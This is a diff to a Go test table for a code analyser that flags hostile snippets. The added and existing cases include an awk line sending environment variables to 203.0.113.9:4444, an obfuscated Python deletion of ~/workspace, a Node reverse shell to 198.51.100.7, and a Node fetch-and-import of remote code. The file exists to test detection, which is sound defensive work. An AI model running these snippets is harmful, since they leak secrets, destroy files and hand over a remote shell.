@@ -55,6 +55,13 @@ func TestAliasedCodeIsRead(t *testing.T) {
 		{"awk", `BEGIN{s="/inet/tcp/0/203.0.113.9/4444"; for(k in ENVIRON) print k"="ENVIRON[k] |& s}`, []string{foundEnvDump}, nil, nil},
 		{"r", `devtools::load_all(); testthat::test_dir("tests")`, nil, nil, []string{foundNetwork}},
 		{"r", `remotes::install_github("someone/pkg")`, []string{foundNetwork}, nil, nil},
+		{"python", `o = __import__('o' + 's'); getattr(__import__('sh' + 'util'), 'rm' + 'tree')(o.path.join(o.environ['HOME'], 'workspace'))`,
+			nil, []string{"~/workspace"}, []string{foundDynamic}},
+		{"python", `import importlib; importlib.import_module('sub'+'process').run(['id'])`, []string{foundSpawn}, nil, nil},
+		{"node", `const n=require('net'),{spawn}=require('child_process');const s=n.connect(4444,'198.51.100.7',()=>{const sh=spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)})`,
+			[]string{foundReverseShell}, nil, nil},
+		{"node", `const src = await (await fetch('https://cdn.example/x.mjs')).text(); await import('data:text/javascript;base64,' + Buffer.from(src).toString('base64'))`,
+			[]string{foundDynamic, foundRemoteExec}, nil, nil},
 	} {
 		ce := analyzeCode(tc.lang, tc.code)
 		for _, w := range tc.want {
